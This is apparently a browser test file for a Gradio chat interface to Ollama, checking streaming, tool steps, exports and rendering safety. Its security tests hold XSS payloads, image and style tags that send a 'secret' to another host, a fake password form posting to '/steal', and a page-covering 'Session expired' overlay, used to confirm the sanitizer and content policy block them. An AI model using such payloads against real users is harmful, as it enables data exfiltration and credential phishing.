"""What a person sees: the launched app in a real browser (Debian's Chromium via Playwright),
over the Ollama-protocol test server."""

from __future__ import annotations

import re
import shutil
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import gradio as gr
import pytest
from playwright.async_api import Page, async_playwright, expect

from ollamastack.settings import Settings
from ollamastack.web.app import build_app, launch
from ollamastack.web.ui.safe_markdown import LATEX_DELIMITERS, safe_markdown
from tests.support.ollama_server import FakeOllama
from tests.test_render_safety import PAGE_QUIRKS, texts

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SCREENSHOT_COPY = Path("/tmp/ollamastack-ui.png")  # for a person to look at after the run

pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists(),
    reason="Debian's Chromium is not installed at /usr/bin/chromium (`make test` installs it)",
)
expect.set_options(timeout=15_000)

# Records every text the last answer showed, to see it grow while it streams.
WATCH_ANSWERS = """() => {
    window.__answers = [];
    const chat = document.querySelector('#chat');
    new MutationObserver(() => {
        const bots = chat.querySelectorAll('[data-testid="bot"] .message-content');
        const last = bots[bots.length - 1];
        if (last) window.__answers.push(last.innerText);
    }).observe(chat, {subtree: true, childList: true, characterData: true});
}"""


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@contextmanager
def serve_app(ollama_server: FakeOllama, tmp_path: Path, **overrides: object) -> Iterator[str]:
    values: dict[str, object] = {
        "ollama_host": ollama_server.url,
        "data_dir": tmp_path / "data",
        "model": "llama3.2",
        "server_port": free_port(),
        "rate_limit": 1000,  # tests type faster than people; the limit has tests of its own
        "embedded": False,
    }
    settings = Settings(_env_file=None, **(values | overrides))  # type: ignore[call-arg, arg-type]
    app = build_app(settings)
    _, url, _ = launch(app, settings, prevent_thread_lock=True, quiet=True)
    try:
        yield url
    finally:
        app.blocks.close()


@pytest.fixture
def app_url(ollama_server: FakeOllama, tmp_path: Path) -> Iterator[str]:
    with serve_app(ollama_server, tmp_path) as url:
        yield url


class OtherHost:
    """Another origin on loopback (127.0.0.2) that records every request it gets: what a
    message could make the browser send its data to."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        host = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                host.requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("content-type", "image/gif")
                self.send_header("content-length", str(len(GIF)))
                self.end_headers()
                self.wfile.write(GIF)

            do_GET = do_POST = _answer

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.url = f"http://127.0.0.2:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> OtherHost:
        self.thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


GIF = bytes.fromhex(  # a 1x1 image, in case anything asks
    "47494638396101000100800000000000ffffff21f90401000000002c000000000100010000020144003b"
)


@pytest.fixture
def other_host() -> Iterator[OtherHost]:
    with OtherHost() as host:
        yield host


@pytest.fixture
async def page(app_url: str) -> AsyncIterator[Page]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS
        )
        try:
            page = await browser.new_page(viewport={"width": 1400, "height": 1000})
            await page.goto(app_url)
            await expect(page.locator("#status")).to_contain_text("Ollama 0.12.6")
            yield page
        finally:
            await browser.close()


async def ask(page: Page, text: str) -> None:
    await page.fill("#message textarea", text)
    await page.press("#message textarea", "Enter")


def answers(page: Page):
    return page.locator('#chat [data-testid="bot"] .message-content')


def conversations(page: Page):
    return page.locator("#conversations li .open")


async def test_a_conversation_with_a_tool_then_a_new_chat_then_back(
    page: Page, ollama_server: FakeOllama, tmp_path: Path
):
    ollama_server.add_model("gemma3", capabilities=("completion",))
    ollama_server.token_rate = 30  # slow enough to watch the answer grow

    # a model installed since the page loaded appears on refresh, marked as without tools
    await page.click("#open-settings")  # the chat's settings panel
    await page.get_by_role("button", name="↻ Refresh").click()
    await page.click("#model input")
    options = page.get_by_role("option")
    await expect(options).to_have_count(2)
    labels = await options.evaluate_all("options => options.map(o => o.ariaLabel)")
    assert labels == ["gemma3:latest · 2.0 GB · prompted tools", "llama3.2:latest · 2.0 GB · tools"]
    await page.get_by_role("option", name="gemma3:latest · 2.0 GB · prompted tools").click()
    await expect(page.locator("#status")).to_contain_text("model gemma3:latest is not loaded")
    await page.click("#model input")
    await page.get_by_role("option", name="llama3.2:latest · 2.0 GB · tools").click()
    await expect(page.locator("#status")).to_contain_text("model llama3.2:latest")

    answer = "The answer is 5: adding two and three gives five, as the calculator said."
    ollama_server.enqueue_tool_call("calculator", {"expression": "2+3"})
    ollama_server.enqueue_text(answer)
    await page.evaluate(WATCH_ANSWERS)
    await ask(page, "What is 2+3?")

    tool = page.locator("#chat .thought-group .title")
    await expect(tool).to_contain_text("Used tool calculator")
    await expect(answers(page).last).to_contain_text("tokens/s")  # the stats line: done
    await expect(answers(page).last).to_contain_text(answer)
    seen = [t for t in await page.evaluate("window.__answers") if t.strip()]
    growing = {t.strip() for t in seen if answer.startswith(t.strip()) and t.strip() != answer}
    assert len(growing) >= 3, seen  # it streamed: partial answers were shown before the end
    assert ollama_server.chat_requests[-1]["model"] == "llama3.2:latest"

    await tool.click()  # open the tool step: its arguments and result
    step = page.locator('#chat [data-testid="bot"]:has(.thought-group)')
    await expect(step).to_contain_text('"expression": "2+3"')
    await expect(step).to_contain_text("Result")
    await expect(conversations(page)).to_have_text(["What is 2+3?"])

    await page.click("#new-chat")
    await expect(answers(page)).to_have_count(0)
    await ask(page, "hello there")
    await expect(answers(page).last).to_contain_text("You said: hello there")
    await expect(conversations(page)).to_have_text(["hello there", "What is 2+3?"])

    # the side list survives a reload (it lives in the browser); a click reopens from memory
    await page.reload()
    await expect(conversations(page)).to_have_text(["hello there", "What is 2+3?"])
    await conversations(page).filter(has_text="What is 2+3?").click()
    await expect(page.locator('#chat [data-testid="user"]')).to_have_text(["What is 2+3?"])
    await expect(tool).to_contain_text("Used tool calculator")
    await expect(answers(page).last).to_contain_text(answer)
    await tool.click()
    await expect(step).to_contain_text('"expression": "2+3"')
    await page.wait_for_function(  # the step has finished sliding open
        "document.getAnimations().every(a => a.playState !== 'running')"
    )

    shot = tmp_path / "ollamastack-ui.png"
    await page.screenshot(path=shot)
    shutil.copyfile(shot, SCREENSHOT_COPY)

    # the conversation as a Markdown download, at once
    async with page.expect_download() as download:
        await page.click("#export-md")
    assert (await download.value).suggested_filename == "what-is-2-3.md"
    exported = tmp_path / "export.md"
    await (await download.value).save_as(exported)
    text = exported.read_text()
    assert text.startswith("# What is 2+3?\n") and text.endswith(f"\n{answer}\n")


async def test_html_in_messages_is_shown_not_run(page: Page, ollama_server: FakeOllama):
    ollama_server.enqueue_text(
        "Look: <img src=x onerror=window.__xss=1> and <script>window.__xss=2</script> done."
    )
    await ask(page, "Say <img src=y onerror=window.__xss=3> and <script>window.__xss=4</script>!")
    await expect(answers(page).last).to_contain_text("tokens/s")
    await expect(answers(page).last).to_contain_text("Look:")
    await expect(answers(page).last).to_contain_text("done.")
    await expect(page.locator('#chat [data-testid="user"]')).to_contain_text("Say")
    # every image in the chat has tried to load (and failed): an onerror would have run
    await page.wait_for_function(
        "[...document.querySelectorAll('#chat img')].every(img => img.complete)"
    )
    assert await page.evaluate("typeof window.__xss") == "undefined"
    assert await page.locator("#chat script").count() == 0
    assert await page.locator("#chat [onerror]").count() == 0


async def test_stop_keeps_the_partial_answer_and_the_page_goes_on(
    page: Page, ollama_server: FakeOllama
):
    ollama_server.token_rate = 10
    ollama_server.enqueue_text("one two three four five six seven eight nine ten " * 6)
    await ask(page, "Count to sixty")
    await expect(answers(page).last).to_contain_text("one two three")
    await page.click("#message .stop-button")
    await expect(answers(page).last).to_contain_text("Stopped.")
    partial = (await answers(page).last.inner_text()).split("Stopped.")[0].strip()
    assert partial.startswith("one two three") and not partial.endswith("ten " * 6)

    # what streamed is in memory: reopening the conversation shows it, marked as stopped
    await page.click("#new-chat")
    await conversations(page).filter(has_text="Count to sixty").click()
    await expect(answers(page).last).to_contain_text(partial)
    await expect(answers(page).last).to_contain_text("Stopped.")

    ollama_server.token_rate = None
    await ask(page, "Go on")
    await expect(answers(page).last).to_contain_text("You said: Go on")


# -- what a message renders can reach nothing and pretend nothing ---------------------------

# Each would make the browser fetch from another host as soon as it shows, post a password
# there, or cover the page.
def payloads(other: str) -> str:
    return "\n\n".join([
        f"![chart]({other}/markdown.png?d=secret)",
        f'<img src="{other}/img.png?d=secret">',
        f'<img srcset="{other}/srcset.png 1x">',
        f'<span style="background-image:url({other}/style.png)">styled</span>',
        f'<video poster="{other}/poster.png" autoplay muted src="{other}/video.mp4"></video>',
        f'<audio autoplay src="{other}/audio.mp3"></audio>',
        f'<input type="image" src="{other}/input.png">',
        f'<table background="{other}/table.png"><tr><td>cell</td></tr></table>',
        f'<svg><image href="{other}/svg.png" width="9" height="9"/></svg>',
        f'<form action="{other}/steal" method="post"><input type="password" name="pw">'
        "<button>Log in</button></form>",
        '<div style="position:fixed;inset:0;z-index:9999;background:white">'
        "Session expired — log in again</div>",
        "Only <b>formatting</b> stays.",
    ])


FORBIDDEN = (  # in a message: none of these may be made
    "form, input, button, select, textarea, img, picture, video, audio, source, iframe, "
    "object, embed, svg, table[background], [style], [srcset], [poster]"
)
# Elements of a message the page would lay out over the app instead of inside the chat.
ESCAPED_LAYOUT = """el => [...el.querySelectorAll('*')].filter(
    e => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position)).length"""


async def test_markup_in_answers_and_tool_results_reaches_no_other_host(
    page: Page, ollama_server: FakeOllama, other_host: OtherHost
):
    attempted: list[str] = []
    page.on("request", lambda r: attempted.append(r.url) if "127.0.0.2" in r.url else None)
    place = f"<b>X</b> <img src={other_host.url}/tool.png> ![t]({other_host.url}/tool-md.png)"
    ollama_server.enqueue_tool_call("current_time", {"timezone": place})
    ollama_server.enqueue_text(payloads(other_host.url))
    await ask(page, "What time is it there?")
    answer = answers(page).last
    await expect(answer).to_contain_text("tokens/s")

    # shown, as text or as links naming the host, never made
    await expect(answer).to_contain_text("Session expired")
    await expect(answer).to_contain_text(f'<form action="{other_host.url}/steal"')
    image_links = answer.get_by_role("link", name="[image: 127.0.0.2]")
    await expect(image_links).to_have_count(2)  # the Markdown image and the <img src>
    assert await image_links.first.get_attribute("href") == (
        f"{other_host.url}/markdown.png?d=secret"
    )
    await expect(answer.locator("b")).to_have_text(["formatting"])
    assert await answer.locator(FORBIDDEN).count() == 0
    assert await answer.evaluate(ESCAPED_LAYOUT) == 0

    # the tool's output is plain text in its step, HTML and all
    await page.locator("#chat .thought-group .title").click()
    step = page.locator('#chat [data-testid="bot"]:has(.thought-group)')
    await expect(step).to_contain_text("unknown time zone '<b>X</b> <img src=")
    assert await step.locator(".message-content b, .message-content img").count() == 0

    await page.wait_for_function(  # whatever the chat holds has finished loading
        "[...document.querySelectorAll('#chat img')].every(img => img.complete)"
    )
    assert (attempted, other_host.requests) == ([], [])


# What markup that got past the sanitizer (or a future Gradio) would load: the page's
# Content-Security-Policy must refuse each, before any request leaves.
INJECT = """other => {
    window.__refused = [];
    document.addEventListener('securitypolicyviolation',
        e => window.__refused.push(e.effectiveDirective));
    const box = document.createElement('div');
    box.innerHTML = `<img src="${other}/img"><video poster="${other}/poster"></video>
        <audio autoplay src="${other}/audio"></audio><iframe src="${other}/frame"></iframe>
        <object data="${other}/object"></object><span style="font-family: injected">f</span>
        <style>@font-face { font-family: injected; src: url(${other}/font); }</style>`;
    document.querySelector('#chat').appendChild(box);
    fetch(`${other}/fetch`).catch(() => {});
    const form = document.createElement('form');
    Object.assign(form, {action: `${other}/form`, method: 'post'});
    document.body.appendChild(form);
    form.submit();
}"""
REFUSED = ["connect-src", "font-src", "form-action", "frame-src", "img-src", "media-src",
           "object-src"]


async def test_the_page_policy_refuses_other_hosts_even_past_the_sanitizer(
    page: Page, other_host: OtherHost
):
    await page.evaluate(INJECT, other_host.url)
    await page.wait_for_function(
        f"{REFUSED} .every(d => window.__refused.includes(d))", timeout=10_000
    )
    assert sorted(set(await page.evaluate("window.__refused"))) == REFUSED
    assert other_host.requests == []


# Logs every refusal the page's policy makes, on every page the browser opens.
REPORT_REFUSALS = """document.addEventListener('securitypolicyviolation', e =>
    console.log(`refused: ${e.effectiveDirective} ${e.blockedURI} ${e.sample}`));"""


async def test_the_login_page_chat_models_and_api_pages_work_under_the_policy(
    ollama_server: FakeOllama, tmp_path: Path
):
    """The policy allows what Gradio itself needs: nothing is refused from login to chat,
    the Models tab (its progress bar renders with `new Function`) and "Use via API"."""
    refused: list[str] = []
    with serve_app(ollama_server, tmp_path, auth="ann:pw-ann") as url:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=str(CHROMIUM), args=CHROMIUM_ARGS
            )
            try:
                context = await browser.new_context(viewport={"width": 1400, "height": 1000})
                await context.add_init_script(REPORT_REFUSALS)
                page = await context.new_page()
                page.on("console", lambda m: refused.append(m.text)
                        if m.text.startswith("refused:") else None)
                await page.goto(url)
                await page.get_by_label("username").fill("ann")
                await page.get_by_label("password").fill("pw-ann")
                await page.get_by_role("button", name="Log in").click()
                await expect(page.locator("#status")).to_contain_text("Ollama 0.12.6")
                await ask(page, "hello $$x^2$$")  # LaTeX: KaTeX's fonts are data: URLs
                await expect(answers(page).last).to_contain_text("tokens/s")
                await page.get_by_role("tab", name="Models").click()
                await expect(page.locator("#models-table").get_by_role(
                    "rowheader", name="llama3.2:latest")).to_be_visible()
                await page.get_by_text("Use via API").click()
                await expect(page.get_by_text("Choose one of the following ways")).to_be_visible()
            finally:
                await browser.close()
    assert refused == []


# What each chat renders, tag by tag (with the first class, which tells Gradio's own apart),
# but for KaTeX's rendering of LaTeX (made from text, which it escapes).
RENDERED = """id => [...document.querySelectorAll(`#${id} .message-content *`)]
    .filter(e => !e.closest('.katex-display, .katex')
                 && !e.matches('span:has(> .katex-display, > .katex)'))  // its wrapper
    .map(e => e.tagName.toLowerCase() + (typeof e.className === 'string' && e.className
                                         ? '.' + e.className.split(' ')[0] : ''))"""
GRADIO_OWN = {"span.md", "div.code_wrap", "button.copy_code_button", "span.copy-text", "svg",
              "path", "span.check"}
STYLES = """id => [...document.querySelectorAll(`#${id} .message-content [style]`)].map(
    e => e.getAttribute('style'))"""  # only KaTeX's sizes


async def test_the_chat_renderer_makes_only_formatting_of_sanitized_text() -> None:
    """Gradio's own renderer (marked, its LaTeX and Mermaid steps, DOMPurify), not a stand-in,
    over texts that mix Markdown and HTML every way: what `safe_markdown` lets through makes
    formatting, links and code, and nothing else; the same texts unsanitized do not."""
    raw = [*PAGE_QUIRKS, *texts(500)]
    with gr.Blocks() as demo:
        for name, shown in (("safe", map(safe_markdown, raw)), ("raw", raw)):
            gr.Chatbot([gr.ChatMessage(role="assistant", content=t) for t in shown],
                       elem_id=name, latex_delimiters=LATEX_DELIMITERS)
    _, url, _ = demo.launch(prevent_thread_lock=True, server_port=free_port(), quiet=True)
    try:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=str(CHROMIUM), args=CHROMIUM_ARGS
            )
            try:
                page = await browser.new_page()
                await page.goto(url)
                for name in ("safe", "raw"):
                    await expect(page.locator(f"#{name} .message-content")).to_have_count(len(raw))
                await page.wait_for_function(  # highlighting and LaTeX are done
                    "document.getAnimations().every(a => a.playState !== 'running')"
                )
                safe = set(await page.evaluate(RENDERED, "safe"))
                styles = await page.evaluate(STYLES, "safe")
                unsafe = set(await page.evaluate(RENDERED, "raw"))
            finally:
                await browser.close()
    finally:
        demo.close()
    made = {tag for tag in safe - GRADIO_OWN if not tag.startswith(("code.", "pre."))}
    assert made <= {"p", "a", "br", "b", "i", "sub", "strong", "em", "code", "pre", "h1", "h2",
                    "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th",
                    "td", "del", "s"}, made
    assert {"img", "form", "details", "div"} <= unsafe
    assert [s for s in styles if re.search(r"position|url\(|background|display", s)] == []
